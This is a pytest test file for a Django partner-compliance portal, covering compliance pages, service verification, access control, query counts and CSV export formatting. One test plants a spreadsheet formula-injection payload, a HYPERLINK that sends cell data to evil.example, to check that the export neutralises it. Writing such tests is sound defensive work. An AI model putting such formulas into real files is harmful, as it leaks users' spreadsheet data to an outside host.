import csv
import io
from datetime import date

import pytest
import time_machine
from django.db import connection
from django.test.utils import CaptureQueriesContext

from compliance.models import HybridITService
from compliance.services.recompute import verdicts_recompute
from tests.compliance.factories import HybridITServiceFactory, certify
from tests.csat.factories import responses
from tests.factories import PartnerFactory, TerritoryFactory


@pytest.fixture
def germany(partner_a):
    t = TerritoryFactory(code="DE", name="Germany")
    partner_a.territories.add(t)
    return t


@time_machine.travel("2026-01-10 12:00Z")
def test_compliance_page_shows_each_credential_as_a_checklist(client, admin_a, partner_a, germany):
    certify(partner_a, germany, on=date(2020, 1, 1), anniversary=date(2026, 6, 1))
    responses(partner_a, germany, 10, date(2024, 12, 1))
    responses(partner_a, germany, 7, date(2025, 12, 1))
    client.force_login(admin_a)
    html = client.get(f"/partners/{partner_a.pk}/compliance/").content.decode()
    assert "Premier · Germany" in html and "Renewal date 2026-06-01 (142 days left)" in html
    assert "Not met yet: 3 more CSAT responses by 2026-01-31" in html  # a shortfall with time left, never "met"
    assert 'data-status="requirement-missed">Missed</a>' in html  # the specialization
    assert 'data-status="compliance-not-compliant">Not compliant</a>' in html
    assert "Renewal status Approved, but not compliant today: Specialization, Hybrid IT, Support missed." in html
    assert "One of Express Foundation, Express Collaboration" in html
    assert "Record a Hybrid IT service" in html
    past = client.get(f"/partners/{partner_a.pk}/compliance/?as_of=2026-02-01").content.decode()
    assert "Missing: 3 more CSAT responses by 2026-07-31" in past


def test_partner_admin_records_a_service_on_the_page_and_staff_verify(
    client, admin_a, admin_b, staff_user, partner_a, germany
):
    client.force_login(admin_a)
    response = client.post(
        f"/partners/{partner_a.pk}/compliance/hybrid-it/new/",
        {
            "territory": germany.pk,
            "name": "Managed Wi-Fi",
            "kind": "powered_managed",
            "provider_contract": "C",
            "customer_sla": "S",
            "description": "D",
            "lifecycle_process": "L",
        },
    )
    assert response.status_code == 302
    service = HybridITService.objects.get()
    assert client.post(f"/compliance/hybrid-it/{service.pk}/verify/").status_code == 403
    client.force_login(admin_b)
    assert client.get(f"/compliance/hybrid-it/{service.pk}/edit/").status_code == 404
    client.force_login(staff_user)
    client.post(f"/compliance/hybrid-it/{service.pk}/verify/")
    service.refresh_from_db()
    assert service.verified_on is not None


def test_record_form_shows_service_errors(client, admin_a, partner_a, germany):
    client.force_login(admin_a)
    html = client.post(
        f"/partners/{partner_a.pk}/compliance/agreement/new/",
        {
            "territory": germany.pk,
            "kind": "resale",
            "reference": "R",
            "starts_on": "2026-02-01",
            "ends_on": "2026-01-01",
        },
    ).content.decode()
    assert "The end date cannot be before the start date." in html


def _portfolio(n):
    territory = TerritoryFactory(code="NL", name="Netherlands")
    for i in range(n):
        partner = PartnerFactory()
        cert = certify(
            partner,
            territory,
            name="Premier" if i % 3 else "Gold",
            on=date(2020, 1, 1),
            anniversary=date(2026, 3, 1 + i % 28),
        )
        HybridITServiceFactory(partner=cert.partner, territory=territory)
        responses(partner, territory, i % 12, date(2025, 12, 1))
    verdicts_recompute(partner_ids=None, as_of=date(2026, 1, 10))


@time_machine.travel("2026-01-10 12:00Z")
def test_portfolio_page_api_and_export_take_constant_queries(client, staff_user, django_assert_max_num_queries):
    _portfolio(5)
    client.force_login(staff_user)
    with CaptureQueriesContext(connection) as few:
        client.get("/compliance/portfolio/?sort=-anniversary")
    _portfolio(120)
    with django_assert_max_num_queries(len(few)):
        html = client.get("/compliance/portfolio/?sort=-anniversary").content.decode()
    assert "125 in all" in html and "status-chart" in html
    with django_assert_max_num_queries(len(few)):
        assert client.get("/api/v1/portfolio/?page_size=50").status_code == 200
    with django_assert_max_num_queries(len(few)):
        rows = b"".join(client.get("/compliance/portfolio/?export=csv&tier=gold").streaming_content).decode()
    lines = rows.strip().splitlines()
    assert lines[0].startswith("partner,partner_id,country,credential,tier,status,compliance,anniversary")
    assert len(lines) == 1 + len([i for i in range(5) if i % 3 == 0]) + len([i for i in range(120) if i % 3 == 0])


def test_account_manager_sees_only_assigned_partners_and_partners_cannot_see_portfolio(
    client, manager, admin_a, partner_a, partner_b, germany
):
    partner_b.territories.add(germany)
    certify(partner_a, germany, on=date(2020, 1, 1))
    certify(partner_b, germany, on=date(2020, 1, 1))
    verdicts_recompute(partner_ids=None, as_of=date(2026, 1, 10))
    client.force_login(manager)
    html = client.get("/compliance/portfolio/").content.decode()
    assert partner_a.legal_name in html and partner_b.legal_name not in html
    client.force_login(admin_a)
    assert client.get("/compliance/portfolio/").status_code == 404


@time_machine.travel("2026-01-10 12:00Z")
def test_portfolio_export_neutralises_spreadsheet_formulas(client, staff_user, partner_a, germany):
    partner_a.legal_name = '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    partner_a.save()
    certify(partner_a, germany, on=date(2020, 1, 1))
    verdicts_recompute(partner_ids=None, as_of=date(2026, 1, 10))
    client.force_login(staff_user)
    content = b"".join(client.get("/compliance/portfolio/?export=csv").streaming_content).decode()
    rows = list(csv.reader(io.StringIO(content)))
    assert rows[1][0] == "'" + partner_a.legal_name
    assert all(not cell.startswith(("=", "+", "@", "\t", "\r")) for row in rows for cell in row)


@time_machine.travel("2026-04-01 12:00Z")
def test_portfolio_export_writes_numbers_iso_dates_and_state_words(client, staff_user, partner_a, germany):
    from tests.specializations.factories import PartnerSpecializationFactory

    partner_a.legal_name = "-Alpha Networks"  # a leading minus: a spreadsheet would read a formula
    partner_a.save()
    PartnerSpecializationFactory(
        partner=partner_a, territory=germany, certified_on=date(2020, 1, 1), anniversary=date(2026, 6, 1)
    )
    certify(partner_a, germany, name="Silver", on=date(2020, 1, 1), anniversary=date(2026, 9, 30))
    verdicts_recompute(partner_ids=None, as_of=date(2026, 4, 1))
    client.force_login(staff_user)
    response = client.get("/compliance/portfolio/?export=csv")
    assert response["Content-Type"] == "text/csv"
    header, *rows = csv.reader(io.StringIO(b"".join(response.streaming_content).decode()))
    assert header == [
        "partner", "partner_id", "country", "credential", "tier", "status", "compliance", "anniversary",
        "days_left", "points_collected", "points_required", "csat_count", "csat_required", "as_of",
    ]  # fmt: skip
    by_credential = {row[3]: dict(zip(header, row, strict=True)) for row in rows}
    points = by_credential[next(name for name in by_credential if name != "Silver")]
    assert points["partner"] == "'-Alpha Networks"  # neutralised
    assert (points["status"], points["compliance"]) == ("Approved", "At risk")  # words, not codes or booleans
    assert (int(points["points_collected"]), int(points["points_required"])) == (0, 100)  # "0/100" apart
    assert (points["anniversary"], points["as_of"], int(points["days_left"])) == ("2026-06-01", "2026-04-01", 61)
    assert date.fromisoformat(points["anniversary"]) == date(2026, 6, 1)
    silver = by_credential["Silver"]
    assert (silver["points_collected"], silver["points_required"]) == ("", "")  # no points requirement
    assert silver["compliance"] in ("Compliant", "At risk", "Not compliant") and silver["status"] == "Approved"
    assert int(silver["csat_required"]) >= 0 and int(silver["csat_count"]) == 0
